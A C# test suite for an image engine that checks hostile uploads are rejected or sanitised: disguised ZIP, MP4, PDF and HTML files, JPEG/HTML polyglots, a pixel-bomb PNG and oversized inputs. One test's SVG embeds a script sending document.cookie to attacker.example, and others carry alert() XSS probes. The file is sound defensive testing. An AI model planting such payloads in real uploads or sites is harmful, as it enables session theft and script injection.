using System.IO.Compression;
using System.Text;
using Scrapbook.Imaging.Tests.Support;

namespace Scrapbook.Imaging.Tests;

public sealed class HostileInputTests : CorpusTest
{
    private readonly VipsImaging _engine = Engine.Create();

    [Fact]
    public async Task RandomBytesNamedJpgAreRejectedAsUnsupportedFormat()
    {
        var random = new byte[64 * 1024];
        new Random(20240601).NextBytes(random);
        random[0] = 0x00; // a random 0xFF 0xD8 0xFF start is possible in principle; not with this seed's first byte
        var path = Save("photo.jpg", random);

        var probe = await RejectedAsync(() => _engine.ProbeAsync(path, Cancellation));
        var render = await RejectedAsync(() => _engine.RenderAsync(path, cancellationToken: Cancellation));

        Assert.Equal(ImageRejectionReason.UnsupportedFormat, probe.Reason);
        Assert.Equal(ImageRejectionReason.UnsupportedFormat, render.Reason);
    }

    [Fact]
    public async Task ZipArchiveIsRejectedAsUnsupportedFormat()
    {
        using var zip = new MemoryStream();
        using (var archive = new ZipArchive(zip, ZipArchiveMode.Create, leaveOpen: true))
        {
            await using var entry = await archive.CreateEntry("photo.jpg").OpenAsync(Cancellation);
            await entry.WriteAsync(await JpegAsync(Images.GradientPng(64, 64)), Cancellation);
        }

        var rejected = await RejectedAsync(() => _engine.ProbeAsync(Save("photos.jpg", zip.ToArray()), Cancellation));

        Assert.Equal(ImageRejectionReason.UnsupportedFormat, rejected.Reason);
        Assert.Contains("ZIP", rejected.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Mp4HeaderIsRejectedAsUnsupportedFormat()
    {
        // ftyp (isom, brands isom iso2 avc1 mp41) followed by an empty mdat: what a phone video starts with.
        byte[] mp4 =
        [
            0, 0, 0, 0x20, .. "ftypisom"u8, 0, 0, 2, 0, .. "isomiso2avc1mp41"u8,
            0, 0, 0, 8, .. "mdat"u8,
        ];

        var rejected = await RejectedAsync(() => _engine.ProbeAsync(Save("clip.heic", mp4), Cancellation));

        Assert.Equal(ImageRejectionReason.UnsupportedFormat, rejected.Reason);
        Assert.Contains("isom", rejected.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task SvgWithAScriptIsRejectedAsUnsupportedFormat()
    {
        var svg = """
            <?xml version="1.0" encoding="UTF-8"?>
            <svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
              <script>fetch('https://attacker.example/?c=' + document.cookie)</script>
              <rect width="100" height="100" fill="red"/>
            </svg>
            """;

        var rejected = await RejectedAsync(() => _engine.RenderAsync(Save("image.png", Encoding.UTF8.GetBytes(svg)), cancellationToken: Cancellation));

        Assert.Equal(ImageRejectionReason.UnsupportedFormat, rejected.Reason);
        Assert.Contains("SVG", rejected.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task JpegCarryingHtmlInACommentRendersAndNoHtmlSurvivesIntoRenditions()
    {
        // A polyglot: a valid JPEG that a browser sniffing for HTML could also run.
        const string Html = "<html><body><script>alert(document.domain)</script></body></html>";
        var jpeg = JpegSegments.Insert(await JpegAsync(Images.GradientPng(800, 600)), JpegSegments.Comment(Html));

        var result = await _engine.RenderAsync(Save("polyglot.jpg", jpeg), cancellationToken: Cancellation);

        Assert.Equal(ImageFormat.Jpeg, result.Source.Format);
        Assert.All(result.Renditions, r => Assert.False(Metadata.Contains(r.Content.Span, "<script"), $"{r.Name} carries the script"));
    }

    [Fact]
    public async Task HtmlThatEmbedsJpegBytesIsRejectedAsUnsupportedFormat()
    {
        var jpeg = await JpegAsync(Images.GradientPng(64, 64));
        byte[] polyglot = [.. "<!DOCTYPE html><html><script>alert(1)</script><!--"u8, .. jpeg, .. "-->"u8];

        var rejected = await RejectedAsync(() => _engine.ProbeAsync(Save("page.jpg", polyglot), Cancellation));

        Assert.Equal(ImageRejectionReason.UnsupportedFormat, rejected.Reason);
        Assert.Contains("HTML", rejected.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "PDF")]
    [InlineData("8BPS\u0000\u0001\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0003", "Photoshop")]
    [InlineData("", "empty")]
    public async Task PdfPsdAndEmptyFilesAreRejectedAsUnsupportedFormat(string content, string named)
    {
        var rejected = await RejectedAsync(() => _engine.ProbeAsync(Save("file.jpg", Encoding.Latin1.GetBytes(content)), Cancellation));

        Assert.Equal(ImageRejectionReason.UnsupportedFormat, rejected.Reason);
        Assert.Contains(named, rejected.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task PngDeclaring17000By17000IsRejectedForItsPixelsFromTheHeaderAlone()
    {
        var png = PngWriter.HeaderOnly(17000, 17000);
        Assert.True(png.Length < 1024, $"the bomb is {png.Length} bytes");
        var path = Save("bomb.png", png);

        var probe = await RejectedAsync(() => _engine.ProbeAsync(path, Cancellation));
        var render = await RejectedAsync(() => _engine.RenderAsync(path, cancellationToken: Cancellation));

        foreach (var rejected in new[] { probe, render })
        {
            Assert.Equal(ImageRejectionReason.TooManyPixels, rejected.Reason);
            Assert.Equal(100_000_000, rejected.Limit);
            Assert.Equal(289_000_000, rejected.Actual);
            Assert.Contains("17000×17000", rejected.Message, StringComparison.Ordinal);
            Assert.Contains("MaxMegapixels", rejected.Message, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task GifOf300FramesIsAcceptedAndRendersOnlyItsFirstFrameAsAStill()
    {
        var path = Save("animated.gif", GifWriter.Animated(1500, 1000, 300));

        var result = await _engine.RenderAsync(path, cancellationToken: Cancellation);

        Assert.Equal(new ImageInfo(ImageFormat.Gif, 1500, 1000, 300, 1), result.Source);
        var large = result.Renditions.Single(r => r.Name == "large");
        Assert.Equal((1500, 1000), (large.Width, large.Height));
        Assert.DoesNotContain("ANIM", Metadata.Containers(large.Content.Span));
    }

    [Fact]
    public async Task GifOf300FramesIsRejectedWhenTheFrameLimitIsLower()
    {
        var engine = Engine.Create(o => o.MaxFrames = 100);

        var rejected = await RejectedAsync(() => engine.ProbeAsync(Save("animated.gif", GifWriter.Animated(64, 64, 300)), Cancellation));

        Assert.Equal(ImageRejectionReason.TooManyFrames, rejected.Reason);
        Assert.Equal((100L, 300L), (rejected.Limit, rejected.Actual));
        Assert.Contains("MaxFrames", rejected.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task OneBySixtyThousandImageRendersWithoutEverBeingUpscaled()
    {
        var png = PngWriter.Write(1, 60000, PngWriter.Grey, 8, (_, y) => (y % 256 * 256, 0, 0, 65535));

        var result = await _engine.RenderAsync(Save("needle.png", png), cancellationToken: Cancellation);

        var byName = result.Renditions.ToDictionary(r => r.Name);
        Assert.Equal((1, 1600), (byName["large"].Width, byName["large"].Height));
        Assert.Equal((1, 640), (byName["small"].Width, byName["small"].Height));
        Assert.Equal((1, 256), (byName["thumb"].Width, byName["thumb"].Height));
        Assert.NotEmpty(result.Placeholder);
    }

    [Fact]
    public async Task FileOverTheByteLimitIsRejectedAsTooLargeFromAPathAndFromAStream()
    {
        var engine = Engine.Create(o => o.MaxBytes = 10_000);
        var png = Images.GradientPng(200, 200);
        Assert.True(png.Length > 10_000);

        var fromPath = await RejectedAsync(() => engine.ProbeAsync(Save("big.png", png), Cancellation));
        var fromStream = await RejectedAsync(() => engine.ProbeAsync(new NonSeekableStream(png), Cancellation));

        Assert.Equal(ImageRejectionReason.TooLarge, fromPath.Reason);
        Assert.Equal((10_000L, (long)png.Length), (fromPath.Limit, fromPath.Actual));
        Assert.Equal(ImageRejectionReason.TooLarge, fromStream.Reason);
        Assert.Equal(10_000L, fromStream.Limit);
        Assert.True(fromStream.Actual > 10_000);
    }

    private sealed class NonSeekableStream(byte[] content) : MemoryStream(content)
    {
        public override bool CanSeek => false;

        public override long Length => throw new NotSupportedException();
    }
}
